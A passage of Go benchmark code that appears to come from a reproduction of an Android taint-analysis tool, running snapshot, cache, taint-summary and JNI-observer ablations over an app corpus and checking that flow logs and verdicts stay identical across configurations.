				if rep.Verdict() == core.VerdictTimeout {
					arm.BudgetBoundApps++
					arm.BudgetBoundSeconds += elapsed
				} else {
					arm.Apps++
					arm.Seconds += elapsed
				}
				if r == 0 {
					outcomes[mode.String()+"/"+app.Name] = throughputOutcome{
						verdict: rep.Verdict(),
						log:     joinLog(rep),
					}
				}
			}
		}
	}
	if arm.Seconds > 0 {
		arm.AppsPerSec = float64(arm.Apps) / arm.Seconds
	}
	if runner != nil {
		arm.Boots = runner.Stats.Boots
		arm.Resets = runner.Stats.Resets
		if runner.Stats.Resets > 0 {
			arm.GuestPagesPerReset = float64(runner.Stats.GuestPagesReset) / float64(runner.Stats.Resets)
			arm.TaintPagesPerReset = float64(runner.Stats.TaintPagesReset) / float64(runner.Stats.Resets)
		}
	}
	return arm, outcomes
}

// joinLog flattens the flow log for byte-parity comparison. strings.Join,
// not +=: hostile-rasp's ndroid log runs to ~50k lines, where quadratic
// concatenation costs over a minute per sweep arm.
func joinLog(rep core.AppReport) string {
	return strings.Join(rep.Final.Result.LogLines, "\n")
}

// ThroughputSweep runs the ablation. budget 0 uses core.DefaultBudget;
// rounds < 1 is clamped to 1. withFresh / withSnapshot select the arms (the
// cfbench -snapshot flag); parity is only checked when both run.
func ThroughputSweep(budget uint64, rounds int, withFresh, withSnapshot bool) (*ThroughputResult, error) {
	if rounds < 1 {
		rounds = 1
	}
	res := &ThroughputResult{ParityOK: true}
	var freshOut, snapOut map[string]throughputOutcome
	if withFresh {
		res.Fresh, freshOut = throughputArm(budget, rounds, nil)
	}
	if withSnapshot {
		runner, err := core.NewRunner()
		if err != nil {
			return nil, fmt.Errorf("cfbench: boot fork server: %w", err)
		}
		res.Snapshot, snapOut = throughputArm(budget, rounds, runner)
	}
	if res.Fresh != nil && res.Snapshot != nil {
		if res.Fresh.AppsPerSec > 0 {
			res.Speedup = res.Snapshot.AppsPerSec / res.Fresh.AppsPerSec
		}
		for cell, want := range freshOut {
			got := snapOut[cell]
			switch {
			case got.verdict != want.verdict:
				res.ParityOK = false
				res.ParityDetail = fmt.Sprintf("%s: verdict fresh=%v snapshot=%v", cell, want.verdict, got.verdict)
			case got.log != want.log:
				res.ParityOK = false
				res.ParityDetail = fmt.Sprintf("%s: flow log diverged", cell)
			}
			if !res.ParityOK {
				return res, nil
			}
		}
	}
	return res, nil
}

// String renders the ablation as a short table.
func (t *ThroughputResult) String() string {
	s := fmt.Sprintf("%-10s %8s %10s %12s %8s %8s %12s %12s\n",
		"arm", "apps", "seconds", "apps/sec", "boots", "resets", "pages/reset", "taint/reset")
	row := func(a *ThroughputArm) string {
		name := "fresh"
		if a.Snapshot {
			name = "snapshot"
		}
		return fmt.Sprintf("%-10s %8d %10.3f %12.1f %8d %8d %12.1f %12.1f\n",
			name, a.Apps, a.Seconds, a.AppsPerSec, a.Boots, a.Resets,
			a.GuestPagesPerReset, a.TaintPagesPerReset)
	}
	if t.Fresh != nil {
		s += row(t.Fresh)
	}
	if t.Snapshot != nil {
		s += row(t.Snapshot)
	}
	if t.Speedup > 0 {
		s += fmt.Sprintf("speedup: %.2fx apps-analyzed/sec with snapshots\n", t.Speedup)
	}
	if a := t.Snapshot; a != nil && a.BudgetBoundApps > 0 {
		s += fmt.Sprintf("budget-bound (excluded from apps/sec): %d attempts burning the watchdog budget, %.3fs\n",
			a.BudgetBoundApps, a.BudgetBoundSeconds)
	}
	if t.Fresh != nil && t.Snapshot != nil {
		if t.ParityOK {
			s += "parity: OK (flow logs and verdicts byte-identical across arms)\n"
		} else {
			s += "parity: MISMATCH — " + t.ParityDetail + "\n"
		}
	}
	return s
}
