package cfbench

// Cache ablation for the analysis service (ISSUE 8): sweep the evaluation
// corpus through the submission pipeline in three regimes — no artifact store
// at all, a cold store populated as the sweep runs, and a warm store that
// answers every submission from its verdict record — plus a shared-library
// leg that re-submits dex-modified variants of already-analyzed apps and
// must reuse every assembled native image without running the assembler.
//
// Caching is a pure cost optimisation: all regimes must agree byte for byte
// on every flow log and verdict (cmd/cfbench exits nonzero otherwise), the
// warm arm must clear WarmSpeedupFloor over the cold arm on the responsive
// corpus, and the shared-library arm is counter-asserted to zero assembles.

import (
	"fmt"
	"os"
	"time"

	"repro/internal/apps"
	"repro/internal/cas"
	"repro/internal/core"
	"repro/internal/service"
	"repro/internal/static"
)

// WarmSpeedupFloor is the minimum warm/cold apps-per-second ratio the
// ablation is expected to clear: a verdict replay runs zero guest
// instructions, so anything below this means the cache is not actually
// short-circuiting.
const WarmSpeedupFloor = 3.0

// warmPasses is how many times the warm arm is measured (best kept). A
// warm replay is pure fixed cost — fingerprint plus one record read per
// app — so its measured slices are single-digit milliseconds at full
// corpus size and one scheduler hiccup skews the warm/cold ratio; the
// best-of-N discipline matches the Fig. 10 rows. Every pass is held to
// the same parity and computed==0 bar, only the timing keeps the best.
const warmPasses = 3

// CacheArm is one regime of the cache ablation.
type CacheArm struct {
	Name       string  `json:"name"` // nocache, cold, warm, sharedlib
	Apps       int     `json:"apps"` // responsive submissions measured
	Seconds    float64 `json:"seconds"`
	AppsPerSec float64 `json:"apps_per_sec"`

	BudgetBoundApps    int     `json:"budget_bound_apps,omitempty"`
	BudgetBoundSeconds float64 `json:"budget_bound_seconds,omitempty"`

	// Pipeline traffic.
	Computed    int `json:"computed"`
	VerdictHits int `json:"verdict_hits,omitempty"`
	Deduped     int `json:"deduped,omitempty"`

	// Artifact traffic aggregated across the fingerprint stage and shards.
	StaticRuns     int `json:"static_runs,omitempty"`
	StaticDiskHits int `json:"static_disk_hits,omitempty"`
	DexValidations int `json:"dex_validations,omitempty"`
	DexCheckHits   int `json:"dex_check_hits,omitempty"`
	AsmAssembles   int `json:"asm_assembles,omitempty"`
	AsmCacheHits   int `json:"asm_cache_hits,omitempty"`
	CacheFaults    int `json:"cache_faults,omitempty"`

	// Store-level counter deltas for this arm (zero without a store).
	StoreHits      int `json:"store_hits,omitempty"`
	StoreMisses    int `json:"store_misses,omitempty"`
	StorePuts      int `json:"store_puts,omitempty"`
	StoreCorrupt   int `json:"store_corrupt,omitempty"`
	StoreEvictions int `json:"store_evictions,omitempty"`
}

// CacheSweepResult is the full cache ablation.
type CacheSweepResult struct {
	NoCache   *CacheArm `json:"nocache,omitempty"`
	Cold      *CacheArm `json:"cold,omitempty"`
	Warm      *CacheArm `json:"warm,omitempty"`
	SharedLib *CacheArm `json:"sharedlib,omitempty"`

	// WarmSpeedup is warm apps/sec over cold apps/sec (responsive corpus).
	WarmSpeedup float64 `json:"warm_speedup,omitempty"`

	// ParityOK records the soundness check: byte-identical flow logs and
	// equal verdicts for every app across every regime that ran, and zero
	// assembler runs on the shared-library leg.
	ParityOK     bool   `json:"parity_ok"`
	ParityDetail string `json:"parity_detail,omitempty"`
}

// cacheSweepArm submits the corpus to a fresh service over store (nil for the
// uncached regime), timing each submission, and returns the arm counters plus
// per-app outcomes for the parity check.
func cacheSweepArm(name string, budget uint64, store *cas.Store, corpus []*apps.App) (*CacheArm, map[string]throughputOutcome, error) {
	var pre cas.Stats
	if store != nil {
		pre = store.Stats()
	}
	// Pins on: the static pre-analysis is the heaviest cacheable artifact, so
	// the ablation runs with it enabled (it is speed-only — the pin parity
	// suite holds flow logs byte-identical either way).
	svc, err := service.New(service.Options{
		Workers: 1,
		Cache:   store,
		Analyze: core.AnalyzeOptions{Mode: core.ModeNDroid, Budget: budget, FlowLog: true,
			Static: static.PinLevel},
	})
	if err != nil {
		return nil, nil, fmt.Errorf("cfbench: boot %s service: %w", name, err)
	}
	arm := &CacheArm{Name: name}
	outcomes := map[string]throughputOutcome{}
	for _, app := range corpus {
		start := time.Now()
		res := <-svc.Submit(app.Spec())
		elapsed := time.Since(start).Seconds()
		if res.Err != nil {
			svc.Close()
			return nil, nil, fmt.Errorf("cfbench: %s arm, %s: %w", name, app.Name, res.Err)
		}
		if res.Report.Verdict() == core.VerdictTimeout {
			arm.BudgetBoundApps++
			arm.BudgetBoundSeconds += elapsed
		} else {
			arm.Apps++
			arm.Seconds += elapsed
		}
		outcomes[app.Name] = throughputOutcome{verdict: res.Report.Verdict(), log: joinLog(res.Report)}
	}
	svc.Close()
	if arm.Seconds > 0 {
		arm.AppsPerSec = float64(arm.Apps) / arm.Seconds
	}
	st := svc.Stats()
	arm.Computed = st.Computed
	arm.VerdictHits = st.VerdictHits
	arm.Deduped = st.Deduped
	arm.StaticRuns = st.Runner.StaticRuns
	arm.StaticDiskHits = st.Runner.StaticDiskHits
	arm.DexValidations = st.Runner.DexValidations
	arm.DexCheckHits = st.Runner.DexCheckHits
	arm.AsmAssembles = st.Runner.AsmAssembles
	arm.AsmCacheHits = st.Runner.AsmCacheHits
	arm.CacheFaults = st.Runner.CacheFaults
	if store != nil {
		post := store.Stats()
		arm.StoreHits = int(post.Hits - pre.Hits)
		arm.StoreMisses = int(post.Misses - pre.Misses)
		arm.StorePuts = int(post.Puts - pre.Puts)
		arm.StoreCorrupt = int(post.Corrupt - pre.Corrupt)
		arm.StoreEvictions = int(post.Evictions - pre.Evictions)
	}
	return arm, outcomes, nil
}

// CacheSweep runs the ablation. budget 0 uses core.DefaultBudget. withOff
// runs the uncached regime; withOn runs cold, warm, and shared-library over
// one store (the cfbench -cache flag). dir optionally pins the store
// location; empty uses a temporary directory.
func CacheSweep(budget uint64, withOff, withOn bool, dir string) (*CacheSweepResult, error) {
	res := &CacheSweepResult{ParityOK: true}
	corpus := apps.AllApps()
	var base map[string]throughputOutcome

	compare := func(name string, got map[string]throughputOutcome) {
		if base == nil || !res.ParityOK {
			return
		}
		for app, want := range base {
			g, ok := got[app]
			switch {
			case !ok:
				res.ParityOK = false
				res.ParityDetail = fmt.Sprintf("%s arm: %s missing", name, app)
			case g.verdict != want.verdict:
				res.ParityOK = false
				res.ParityDetail = fmt.Sprintf("%s arm: %s verdict %v, baseline %v", name, app, g.verdict, want.verdict)
			case g.log != want.log:
				res.ParityOK = false
				res.ParityDetail = fmt.Sprintf("%s arm: %s flow log diverged", name, app)
			}
			if !res.ParityOK {
				return
			}
		}
	}

	if withOff {
		arm, out, err := cacheSweepArm("nocache", budget, nil, corpus)
		if err != nil {
			return nil, err
		}
		res.NoCache, base = arm, out
	}
	if withOn {
		if dir == "" {
			tmp, err := os.MkdirTemp("", "ndroid-cas-*")
			if err != nil {
				return nil, err
			}
			defer os.RemoveAll(tmp)
			dir = tmp
		}
		store, err := cas.Open(dir)
		if err != nil {
			return nil, err
		}
		cold, coldOut, err := cacheSweepArm("cold", budget, store, corpus)
		if err != nil {
			return nil, err
		}
		res.Cold = cold
		if base == nil {
			base = coldOut
		} else {
			compare("cold", coldOut)
		}
		var warm *CacheArm
		for pass := 0; pass < warmPasses; pass++ {
			w, warmOut, err := cacheSweepArm("warm", budget, store, corpus)
			if err != nil {
				return nil, err
			}
			compare("warm", warmOut)
			if res.ParityOK && w.Computed != 0 {
				res.ParityOK = false
				res.ParityDetail = fmt.Sprintf("warm arm recomputed %d apps; every verdict should replay", w.Computed)
			}
			if warm == nil || w.AppsPerSec > warm.AppsPerSec {
				warm = w
			}
		}
		res.Warm = warm
		if cold.AppsPerSec > 0 {
			res.WarmSpeedup = warm.AppsPerSec / cold.AppsPerSec
		}

		// Shared-library leg: same native images under different dex. Every
		// assembled image must come from the store; everything dex-scoped is
		// recomputed, so outcomes still match the base app byte for byte.
		var variants []*apps.App
		for _, app := range corpus {
			variants = append(variants, apps.SharedLibVariant(app))
		}
		shared, sharedOut, err := cacheSweepArm("sharedlib", budget, store, variants)
		if err != nil {
			return nil, err
		}
		res.SharedLib = shared
		if res.ParityOK && shared.AsmAssembles != 0 {
			res.ParityOK = false
			res.ParityDetail = fmt.Sprintf("sharedlib arm ran the assembler %d times; shared images must replay", shared.AsmAssembles)
		}
		if base != nil && res.ParityOK {
			for _, app := range corpus {
				want, got := base[app.Name], sharedOut[app.Name+"+sharedlib"]
				if got.verdict != want.verdict || got.log != want.log {
					res.ParityOK = false
					res.ParityDetail = fmt.Sprintf("sharedlib arm: %s diverged from its base app", app.Name)
					break
				}
			}
		}
	}
	return res, nil
}

// String renders the ablation as a short table.
func (c *CacheSweepResult) String() string {
	s := fmt.Sprintf("%-10s %6s %9s %10s %9s %8s %7s %8s %8s %8s %8s\n",
		"arm", "apps", "seconds", "apps/sec", "computed", "verdhit", "dedup", "asm", "asmhit", "sthit", "puts")
	row := func(a *CacheArm) string {
		return fmt.Sprintf("%-10s %6d %9.3f %10.1f %9d %8d %7d %8d %8d %8d %8d\n",
			a.Name, a.Apps, a.Seconds, a.AppsPerSec, a.Computed, a.VerdictHits,
			a.Deduped, a.AsmAssembles, a.AsmCacheHits, a.StoreHits, a.StorePuts)
	}
	for _, a := range []*CacheArm{c.NoCache, c.Cold, c.Warm, c.SharedLib} {
		if a != nil {
			s += row(a)
		}
	}
	if c.WarmSpeedup > 0 {
		s += fmt.Sprintf("warm speedup: %.2fx apps-analyzed/sec over cold (floor %.1fx)\n", c.WarmSpeedup, WarmSpeedupFloor)
	}
	if c.ParityOK {
		s += "parity: OK (flow logs and verdicts byte-identical across cache regimes)\n"
	} else {
		s += "parity: MISMATCH — " + c.ParityDetail + "\n"
	}
	return s
}
