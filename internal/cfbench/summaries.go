package cfbench

// Native taint-summary ablation (internal/summary): sweep the evaluation
// corpus across every analysis mode with auto-generated summaries off,
// static (unvalidated), and validated, recording traced-instruction
// counters, per-cell application/rejection counts, and wall clock. The
// validated arm must agree byte for byte with the off arm on every flow log
// and verdict; the static arm must too, except on the one hostile app built
// to defeat it (hostile-sumdodge), where divergence is REQUIRED — if the
// static arm matches there, the exhibit is dead and the sweep fails. The
// reduction leg asserts the headline claim: the summarizable corpus apps
// execute >= 5x fewer traced native instructions under validated summaries.

import (
	"fmt"
	"time"

	"repro/internal/apps"
	"repro/internal/core"
)

// summaryExhibits are the corpus apps whose hot native function is
// summarizable; they carry the >= 5x traced-instruction reduction claim.
var summaryExhibits = []string{"summix", "sumfold", "sumfloat"}

// summaryDivergent is the hostile app whose static-tier summary is wrong by
// construction (input-value-dependent taint transfer).
const summaryDivergent = "hostile-sumdodge"

// SummaryCell is one (app, mode) cell of the summary ablation.
type SummaryCell struct {
	App  string `json:"app"`
	Mode string `json:"mode"`

	TracedOff       uint64 `json:"traced_off"`
	TracedStatic    uint64 `json:"traced_static"`
	TracedValidated uint64 `json:"traced_validated"`

	// Applied / Rejected count summary activity on the validated arm.
	Applied  uint64 `json:"applied,omitempty"`
	Rejected int    `json:"rejected,omitempty"`

	VerdictOff       string `json:"verdict_off"`
	VerdictStatic    string `json:"verdict_static"`
	VerdictValidated string `json:"verdict_validated"`
}

// SummaryReduction is one exhibit row of the reduction table: full tracing
// vs validated summaries under NDroid.
type SummaryReduction struct {
	App             string  `json:"app"`
	TracedFull      uint64  `json:"traced_full"`
	TracedSummaries uint64  `json:"traced_summaries"`
	Ratio           float64 `json:"ratio"`
}

// SummarySweepResult is the full summary ablation.
type SummarySweepResult struct {
	Cells []SummaryCell `json:"cells"`

	OffSeconds       float64 `json:"off_seconds"`
	StaticSeconds    float64 `json:"static_seconds"`
	ValidatedSeconds float64 `json:"validated_seconds"`

	Reductions []SummaryReduction `json:"reductions"`

	// ParityOK records the soundness check: validated == off everywhere,
	// static == off everywhere except the divergent hostile exhibit (which
	// must actually diverge), and every exhibit meets the 5x reduction bar.
	ParityOK     bool   `json:"parity_ok"`
	ParityDetail string `json:"parity_detail,omitempty"`
}

func (r *SummarySweepResult) fail(format string, args ...interface{}) {
	if r.ParityOK {
		r.ParityOK = false
		r.ParityDetail = fmt.Sprintf(format, args...)
	}
}

// SummarySweep runs the three-arm summary ablation over apps x modes.
// budget 0 uses core.DefaultBudget.
func SummarySweep(budget uint64) (*SummarySweepResult, error) {
	res := &SummarySweepResult{ParityOK: true}
	type outcome struct {
		verdict core.Verdict
		log     string
		traced  uint64
	}
	run := func(app *apps.App, mode core.Mode, sm core.SummaryMode) (core.AppReport, outcome, float64) {
		start := time.Now()
		rep := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
			Mode:      mode,
			Budget:    budget,
			FlowLog:   true,
			Summaries: sm,
		})
		return rep, outcome{rep.Verdict(), joinLog(rep), rep.Final.Result.TracedInsns},
			time.Since(start).Seconds()
	}
	for _, mode := range throughputModes() {
		for _, app := range apps.AllApps() {
			cell := SummaryCell{App: app.Name, Mode: mode.String()}

			_, off, secs := run(app, mode, core.SummaryOff)
			res.OffSeconds += secs
			_, st, secs := run(app, mode, core.SummaryStatic)
			res.StaticSeconds += secs
			vrep, val, secs := run(app, mode, core.SummaryValidated)
			res.ValidatedSeconds += secs

			cell.TracedOff, cell.TracedStatic, cell.TracedValidated = off.traced, st.traced, val.traced
			cell.Applied = vrep.Final.Result.SummaryApplied
			cell.Rejected = len(vrep.Final.Result.SummaryRejections)
			cell.VerdictOff = off.verdict.String()
			cell.VerdictStatic = st.verdict.String()
			cell.VerdictValidated = val.verdict.String()
			res.Cells = append(res.Cells, cell)

			if val.verdict != off.verdict {
				res.fail("%s/%s: verdict validated=%v off=%v", mode, app.Name, val.verdict, off.verdict)
			} else if val.log != off.log {
				res.fail("%s/%s: validated flow log diverged from off", mode, app.Name)
			}
			if app.Name == summaryDivergent && mode == core.ModeNDroid {
				// The value-dependent gate must defeat the unvalidated tier.
				if st.log == off.log {
					res.fail("%s/%s: static arm failed to diverge (hostile exhibit dead)", mode, app.Name)
				}
				if cell.Rejected == 0 {
					res.fail("%s/%s: validation rejected nothing", mode, app.Name)
				}
			} else if st.verdict != off.verdict {
				res.fail("%s/%s: verdict static=%v off=%v", mode, app.Name, st.verdict, off.verdict)
			} else if st.log != off.log {
				res.fail("%s/%s: static flow log diverged from off", mode, app.Name)
			}

			if mode == core.ModeNDroid {
				for _, ex := range summaryExhibits {
					if app.Name != ex {
						continue
					}
					red := SummaryReduction{App: ex, TracedFull: off.traced, TracedSummaries: val.traced}
					if val.traced > 0 {
						red.Ratio = float64(off.traced) / float64(val.traced)
					}
					res.Reductions = append(res.Reductions, red)
					if val.traced == 0 || off.traced < 5*val.traced {
						res.fail("%s: traced %d full vs %d summarized, below the 5x bar",
							ex, off.traced, val.traced)
					}
					if vrep.Final.Result.SummaryApplied == 0 {
						res.fail("%s: no crossing was served by a summary", ex)
					}
				}
			}
		}
	}
	return res, nil
}

// String renders the ablation as a per-cell table plus the reduction rows.
func (r *SummarySweepResult) String() string {
	s := fmt.Sprintf("%-18s %-12s %10s %10s %10s %8s %4s %8s %8s %8s\n",
		"app", "mode", "tr(off)", "tr(stat)", "tr(val)", "applied", "rej",
		"v(off)", "v(stat)", "v(val)")
	for _, c := range r.Cells {
		s += fmt.Sprintf("%-18s %-12s %10d %10d %10d %8d %4d %8s %8s %8s\n",
			c.App, c.Mode, c.TracedOff, c.TracedStatic, c.TracedValidated,
			c.Applied, c.Rejected, c.VerdictOff, c.VerdictStatic, c.VerdictValidated)
	}
	for _, red := range r.Reductions {
		s += fmt.Sprintf("reduction (%s): %d traced full vs %d under validated summaries (%.1fx)\n",
			red.App, red.TracedFull, red.TracedSummaries, red.Ratio)
	}
	s += fmt.Sprintf("sweep wall clock: off %.3fs, static %.3fs, validated %.3fs\n",
		r.OffSeconds, r.StaticSeconds, r.ValidatedSeconds)
	if r.ParityOK {
		s += "parity: OK (validated byte-identical to off; static diverges only on the hostile exhibit)\n"
	} else {
		s += "parity: MISMATCH — " + r.ParityDetail + "\n"
	}
	return s
}
