package cfbench

import "testing"

// TestSummarySweep runs the three-arm summary ablation under a tight budget:
// parity must hold (validated == off everywhere, static diverging exactly on
// the hostile exhibit), every summarizable exhibit must clear the 5x
// traced-instruction reduction bar, and the hostile exhibit's validated arm
// must record the rejection.
func TestSummarySweep(t *testing.T) {
	res, err := SummarySweep(1 << 21)
	if err != nil {
		t.Fatal(err)
	}
	if !res.ParityOK {
		t.Fatalf("parity mismatch: %s", res.ParityDetail)
	}
	if len(res.Reductions) != len(summaryExhibits) {
		t.Fatalf("%d reduction rows, want %d", len(res.Reductions), len(summaryExhibits))
	}
	for _, red := range res.Reductions {
		if red.Ratio < 5 {
			t.Errorf("%s: reduction %.2fx, want >= 5x", red.App, red.Ratio)
		}
	}
	rejected := false
	for _, c := range res.Cells {
		if c.App == summaryDivergent && c.Mode == "ndroid" && c.Rejected > 0 {
			rejected = true
		}
	}
	if !rejected {
		t.Error("hostile exhibit's summary was never rejected under validation")
	}
}
