package cfbench

import (
	"fmt"

	"repro/internal/apps"
)

// VerdictCounts summarizes one contained sweep over the full evaluation
// corpus (benign + hostile): how many apps landed on each verdict and how
// much retry/degradation work the fault containment performed. It rides
// along in the -json output so a robustness regression (an app that used to
// complete starts faulting, or containment stops degrading) shows up in the
// same artifact as the performance numbers.
type VerdictCounts struct {
	Apps     int `json:"apps"`
	Clean    int `json:"clean"`
	Leak     int `json:"leak"`
	Fault    int `json:"fault"`
	Timeout  int `json:"timeout"`
	Degraded int `json:"degraded"`
	Attempts int `json:"attempts"`
}

// VerdictSweep runs the corpus under contained analysis (fresh System per
// attempt) and counts verdicts. budget 0 uses core.DefaultBudget.
func VerdictSweep(budget uint64) *VerdictCounts {
	rep := apps.RunStudy(apps.StudyOptions{Budget: budget})
	return &VerdictCounts{
		Apps:     len(rep.Rows),
		Clean:    rep.Clean,
		Leak:     rep.Leaks,
		Fault:    rep.Faults,
		Timeout:  rep.Timeouts,
		Degraded: rep.Degraded,
		Attempts: rep.Attempts,
	}
}

// String renders the counters on one line.
func (v *VerdictCounts) String() string {
	return fmt.Sprintf("apps=%d clean=%d leak=%d fault=%d timeout=%d degraded=%d attempts=%d",
		v.Apps, v.Clean, v.Leak, v.Fault, v.Timeout, v.Degraded, v.Attempts)
}
