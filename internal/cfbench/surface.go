package cfbench

// JNI surface-observer ablation (internal/surface): sweep the evaluation
// corpus across every analysis mode with the observer on (throttled, the
// production default) and off, recording per-cell surface counters and the
// wall-clock cost of observation. The two arms must agree byte for byte on
// every flow log and verdict — the observer is a derived artifact and may
// never perturb the analysis. A dedicated flood leg measures the RASP
// hostile app throttled vs unthrottled, the number the EXPERIMENTS
// flood-overhead table reports.

import (
	"fmt"
	"time"

	"repro/internal/apps"
	"repro/internal/core"
)

// SurfaceCell is one (app, mode) cell of the observer ablation: the surface
// counters from the observed arm plus both arms' verdicts.
type SurfaceCell struct {
	App  string `json:"app"`
	Mode string `json:"mode"`

	Boundaries int    `json:"boundaries"`
	Events     int    `json:"events"`
	Dropped    uint64 `json:"dropped,omitempty"`
	Calls      uint64 `json:"calls"`
	Truncated  bool   `json:"truncated,omitempty"`

	VerdictOn  string `json:"verdict_on"`
	VerdictOff string `json:"verdict_off"`
}

// SurfaceFlood is the flood-resistance leg: the RASP hostile app under
// NDroid with the observer throttled, unthrottled, and detached. Attempts
// are events the observer tried to record (recorded + dropped) — the cost a
// per-call event stream would pay.
type SurfaceFlood struct {
	App string `json:"app"`

	ThrottledSeconds   float64 `json:"throttled_seconds"`
	UnthrottledSeconds float64 `json:"unthrottled_seconds"`
	OffSeconds         float64 `json:"off_seconds"`

	Calls               uint64 `json:"calls"`
	ThrottledAttempts   uint64 `json:"throttled_attempts"`
	UnthrottledAttempts uint64 `json:"unthrottled_attempts"`
	ThrottledEvents     int    `json:"throttled_events"`
	UnthrottledEvents   int    `json:"unthrottled_events"`
}

// SurfaceSweepResult is the full observer ablation.
type SurfaceSweepResult struct {
	Cells []SurfaceCell `json:"cells"`

	OnSeconds  float64 `json:"on_seconds"`
	OffSeconds float64 `json:"off_seconds"`

	Flood *SurfaceFlood `json:"flood,omitempty"`

	// ParityOK records the soundness check: byte-identical flow logs and
	// equal verdicts for every (app, mode) cell across the two arms.
	ParityOK     bool   `json:"parity_ok"`
	ParityDetail string `json:"parity_detail,omitempty"`
}

// SurfaceSweep runs the observer ablation over apps x modes. budget 0 uses
// core.DefaultBudget. withOn / withOff select the arms (the cfbench -surface
// flag); parity is only checked when both run. The flood leg runs whenever
// the observed arm does.
func SurfaceSweep(budget uint64, withOn, withOff bool) (*SurfaceSweepResult, error) {
	res := &SurfaceSweepResult{ParityOK: true}
	type outcome struct {
		verdict core.Verdict
		log     string
	}
	run := func(app *apps.App, mode core.Mode, sm core.SurfaceMode) (core.AppReport, float64) {
		start := time.Now()
		rep := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
			Mode:    mode,
			Budget:  budget,
			FlowLog: true,
			Surface: sm,
		})
		return rep, time.Since(start).Seconds()
	}
	for _, mode := range throughputModes() {
		for _, app := range apps.AllApps() {
			cell := SurfaceCell{App: app.Name, Mode: mode.String()}
			var on, off outcome
			if withOn {
				rep, secs := run(app, mode, core.SurfaceOn)
				res.OnSeconds += secs
				if m := rep.Final.Result.Surface; m != nil {
					cell.Boundaries = m.UniqueBoundaries
					cell.Events = m.Events
					cell.Dropped = m.Dropped
					cell.Calls = m.Calls
					cell.Truncated = m.Truncated
				}
				cell.VerdictOn = rep.Verdict().String()
				on = outcome{rep.Verdict(), joinLog(rep)}
			}
			if withOff {
				rep, secs := run(app, mode, core.SurfaceOff)
				res.OffSeconds += secs
				cell.VerdictOff = rep.Verdict().String()
				off = outcome{rep.Verdict(), joinLog(rep)}
			}
			res.Cells = append(res.Cells, cell)
			if withOn && withOff && res.ParityOK {
				switch {
				case on.verdict != off.verdict:
					res.ParityOK = false
					res.ParityDetail = fmt.Sprintf("%s/%s: verdict observed=%v unobserved=%v",
						mode, app.Name, on.verdict, off.verdict)
				case on.log != off.log:
					res.ParityOK = false
					res.ParityDetail = fmt.Sprintf("%s/%s: flow log diverged", mode, app.Name)
				}
			}
		}
	}
	if withOn {
		if rasp, ok := apps.ByName("hostile-rasp"); ok {
			fl := &SurfaceFlood{App: rasp.Name}
			rep, secs := run(rasp, core.ModeNDroid, core.SurfaceOn)
			fl.ThrottledSeconds = secs
			if m := rep.Final.Result.Surface; m != nil {
				fl.Calls = m.Calls
				fl.ThrottledEvents = m.Events
				fl.ThrottledAttempts = uint64(m.Events) + m.Dropped
			}
			rep, secs = run(rasp, core.ModeNDroid, core.SurfaceUnthrottled)
			fl.UnthrottledSeconds = secs
			if m := rep.Final.Result.Surface; m != nil {
				fl.UnthrottledEvents = m.Events
				fl.UnthrottledAttempts = uint64(m.Events) + m.Dropped
			}
			_, fl.OffSeconds = run(rasp, core.ModeNDroid, core.SurfaceOff)
			res.Flood = fl
		}
	}
	return res, nil
}

// String renders the ablation as a per-cell table plus totals.
func (r *SurfaceSweepResult) String() string {
	s := fmt.Sprintf("%-16s %-12s %6s %6s %8s %9s %5s %8s %8s\n",
		"app", "mode", "bounds", "events", "dropped", "calls", "trunc", "v(on)", "v(off)")
	var events int
	var dropped, calls uint64
	for _, c := range r.Cells {
		trunc := ""
		if c.Truncated {
			trunc = "yes"
		}
		s += fmt.Sprintf("%-16s %-12s %6d %6d %8d %9d %5s %8s %8s\n",
			c.App, c.Mode, c.Boundaries, c.Events, c.Dropped, c.Calls, trunc,
			c.VerdictOn, c.VerdictOff)
		events += c.Events
		dropped += c.Dropped
		calls += c.Calls
	}
	s += fmt.Sprintf("totals: %d calls observed as %d events (%d dropped by throttle+budget)\n",
		calls, events, dropped)
	if fl := r.Flood; fl != nil {
		s += fmt.Sprintf("flood (%s): %d calls -> %d attempts throttled vs %d unthrottled; wall clock %.3fs / %.3fs / %.3fs (throttled/unthrottled/off)\n",
			fl.App, fl.Calls, fl.ThrottledAttempts, fl.UnthrottledAttempts,
			fl.ThrottledSeconds, fl.UnthrottledSeconds, fl.OffSeconds)
	}
	if r.OnSeconds > 0 && r.OffSeconds > 0 {
		s += fmt.Sprintf("sweep wall clock: observed %.3fs, unobserved %.3fs\n", r.OnSeconds, r.OffSeconds)
		if r.ParityOK {
			s += "parity: OK (flow logs and verdicts byte-identical across arms)\n"
		} else {
			s += "parity: MISMATCH — " + r.ParityDetail + "\n"
		}
	}
	return s
}
