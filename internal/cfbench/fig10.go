package cfbench

import (
	"encoding/json"
	"fmt"
	"math"
	"strings"

	"repro/internal/core"
)

// Row is one line of the Fig. 10 table.
type Row struct {
	Name     string
	Java     bool
	Score    map[core.Mode]float64   // nominal ops/second
	Overhead map[core.Mode]float64   // vanilla score / mode score
	Gate     map[core.Mode]GateStats // taint-gate activity of the best run
}

// Result is a complete Fig. 10 run.
type Result struct {
	Rows  []Row // thirteen measured rows + Native/Java/Overall scores
	Modes []core.Mode

	// Verdicts carries the contained-corpus robustness counters when the
	// caller ran a VerdictSweep alongside the benchmark (cfbench -json).
	Verdicts *VerdictCounts

	// Pins carries the static pin-precision table when the caller ran a
	// PinSweep alongside the benchmark (cfbench -json).
	Pins []PinRow

	// Throughput carries the snapshot-ablation numbers when the caller ran a
	// ThroughputSweep alongside the benchmark (cfbench -snapshot).
	Throughput *ThroughputResult

	// Fuse carries the crossing-ablation numbers when the caller ran a
	// FuseSweep alongside the benchmark (cfbench -fuse).
	Fuse *FuseSweepResult

	// Cache carries the service cache-ablation numbers when the caller ran a
	// CacheSweep alongside the benchmark (cfbench -cache).
	Cache *CacheSweepResult

	// Surface carries the JNI surface-observer ablation when the caller ran
	// a SurfaceSweep alongside the benchmark (cfbench -surface).
	Surface *SurfaceSweepResult

	// Summary carries the native taint-summary ablation when the caller ran
	// a SummarySweep alongside the benchmark (cfbench -summaries).
	Summary *SummarySweepResult
}

// Run measures every workload under the given modes. scale divides the
// nominal operation counts (1 = full run; larger = quicker smoke runs).
// repeats > 1 keeps the best score per cell to damp scheduler noise.
func Run(modes []core.Mode, scale, repeats int) (*Result, error) {
	return run(modes, scale, repeats, true)
}

// RunNoGate is Run with the taint-presence gate disabled: every mode pays
// its full instrumentation cost, the configuration the paper's Fig. 10
// measures (and the one PR 1 shipped). The shape assertions about tracer
